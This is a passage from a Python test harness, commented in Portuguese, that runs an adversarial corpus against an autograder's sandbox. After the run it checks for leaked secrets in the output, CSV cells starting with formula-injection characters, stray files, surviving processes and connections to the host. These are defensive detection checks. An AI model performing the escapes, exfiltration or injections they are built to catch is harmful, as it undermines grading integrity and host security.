                rel.codigo_lote = proc.wait(timeout=LIMITE_LOTE)
            except subprocess.TimeoutExpired:
                terminou = False
                with contextlib.suppress(ProcessLookupError):
                    os.killpg(proc.pid, signal.SIGKILL)
                proc.wait()
        rel.segundos_lote = time.monotonic() - t0
        with open(log, "rb") as f:
            bruto = f.read(4 << 20)
        rel.saida_lote = bruto.decode("utf-8", "replace")
        g = rel.globais
        g["lote-terminou"] = []
        if not terminou:
            g["lote-terminou"].append(f"o lote não terminou em {LIMITE_LOTE:g} s")
        elif rel.codigo_lote != 0:
            cauda = "\n".join(rel.saida_lote.strip().splitlines()[-6:])
            g["lote-terminou"].append(f"o lote saiu com código {rel.codigo_lote}:\n{cauda}")
        if len(bruto) >= 1 << 20:
            g["lote-terminou"].append(f"a saída do lote tem {len(bruto)} bytes ou mais (saída do aluno vazando?)")
        for proibido in ("VAZOU", ctx.segredo, f"{ctx.marca}-nota-falsa"):
            if proibido in rel.saida_lote:
                g["lote-terminou"].append(f"a saída do lote contém {proibido[:12]!r}…")
        if not (ctx.saida / "notas.csv").is_file():
            g["lote-terminou"].append("o lote não gravou notas.csv")
        csv_notas = _ler_csv(ctx.saida / "notas.csv")
        for caso in montados:
            rel.casos[caso.nome] = _conferir_caso(caso, ctx, itens_max, csv_notas, rel.saida_lote)
        # ------------------------------------------------------------ verificações do lote
        fora = []
        esperados = {"submissoes", "saida", "cwd", "apoio"}
        extras = {p.name for p in raiz_tmp.iterdir()} - esperados
        fora += [f"arquivo inesperado ao lado da saída: {n!r}" for n in sorted(extras)]
        fora += [f"o cwd do lote ganhou {n!r}" for n in sorted(os.listdir(ctx.cwd))]
        depois = _listar(ctx.submissoes)
        if depois != antes_submissoes:
            mudou = sorted(set(depois.items()) ^ set(antes_submissoes.items()))[:3]
            fora.append(f"a pasta de submissões mudou durante o lote: {mudou}")
        validos = {c.pasta_aluno for c in montados if c.avaliado}
        for rel_caminho in _listar(ctx.saida):
            partes = Path(rel_caminho).parts
            if rel_caminho == "notas.csv" or (partes and partes[0] in validos and len(partes) <= 3):
                if len(partes) == 3 and partes[1:] != (SLUG, "results.json"):
                    fora.append(f"arquivo inesperado na saída: {rel_caminho!r}")
                continue
            fora.append(f"arquivo inesperado na saída: {rel_caminho!r}")
        fora += [f"arquivo criado por um ataque no hospedeiro: {p}" for p in _procurar_marca(ctx)]
        for linha in csv_notas:
            if linha[:1] in ("=", "+", "-", "@", "\t", "\r"):
                fora.append(f"célula do notas.csv começa com caractere de fórmula: {linha!r}")
            if linha not in validos:
                fora.append(f"linha inesperada no notas.csv: {linha!r}")
        g["nada-fora-da-saida"] = fora
        ignorar = {sentinela.pid} if sentinela else set()
        restantes = []
        for _ in range(20):
            restantes = _processos_da_caixa(ctx, ignorar)
            if not restantes:
                break
            time.sleep(0.1)
        g["sem-processos-restantes"] = [
            f"processo da caixa vivo depois do lote: pid {p} uid {u} {c!r}" for p, u, c in restantes
        ]
        for pid, _u, _c in restantes:  # foram criados pelo corpus: encerra cada um pelo pid
            with contextlib.suppress(ProcessLookupError):
                os.kill(pid, signal.SIGKILL)
        rede = []
        for nome, srv in (("TCP 127.0.0.1", servidor_tcp), ("unix abstrato", servidor_unix)):
            try:
                conexao, _ = srv.accept()
                conexao.close()
                rede.append(f"a caixa conectou no {nome} do hospedeiro")
            except BlockingIOError:
                pass
        g["rede-intocada"] = rede
        if sentinela is None:
            g["sentinela-viva"] = []
        elif sentinela.poll() is not None:
            g["sentinela-viva"] = [
                f"o processo sentinela (uid {UID_CAIXA}, fora da caixa) morreu: código {sentinela.returncode}"
            ]
        else:
            g["sentinela-viva"] = []
    finally:
        if proc is not None and proc.poll() is None:  # interrompido (Ctrl-C): o lote está noutra sessão
            with contextlib.suppress(ProcessLookupError):
                os.killpg(proc.pid, signal.SIGKILL)
            proc.wait()
        if sentinela is not None and sentinela.poll() is None:
            sentinela.kill()
            sentinela.wait()
        servidor_tcp.close()
        servidor_unix.close()
        if manter is not None:
            manter = Path(manter)
            if manter.exists():
                shutil.rmtree(manter)
            shutil.move(str(raiz_tmp), manter)
            saida(f"Arquivos do corpus mantidos em {manter}")
        else:
            shutil.rmtree(raiz_tmp, ignore_errors=True)
    for r in rel.casos.values():
        if r.situacao != "pulado" and r.falhas:
            r.situacao = "falhou"
        if r.controle:
            rel.controles += 1
            continue
        if r.situacao == "pulado":
            rel.pulados += 1
            continue
        rel.tentados += 1
        rel.contidos += r.situacao == "contido"
    tempos = [(r.nome, r.segundos) for r in rel.casos.values() if r.segundos is not None]
    if tempos:
        rel.mais_lento = max(tempos, key=lambda x: x[1])
    rel.segundos_total = time.monotonic() - inicio
    _figuras(rel, saida)
    return rel


def main(argv=None) -> int:
    p = argparse.ArgumentParser(prog="python -m autograder.adversarial", description="Corpus adversarial do avaliador.")
    p.add_argument("--casos", nargs="*", help="roda só os casos cujo nome contém um destes trechos (e os controles)")
    p.add_argument("--manter", type=Path, help="guarda submissões e relatórios nesta pasta")
    p.add_argument("--listar", action="store_true", help="lista os casos e sai")
    p.add_argument("--base", help="pasta onde criar a pasta temporária do corpus (padrão: $ADVERSARIAL_BASE ou /tmp)")
    args = p.parse_args(argv)
    if args.listar:
        for c in corpus():
            print(f"{c.nome:<36} {c.descricao}")
        return 0
    rel = rodar(filtro=args.casos, manter=args.manter, base=args.base)
    return 1 if rel.falhas else 0


if __name__ == "__main__":
    sys.exit(main())
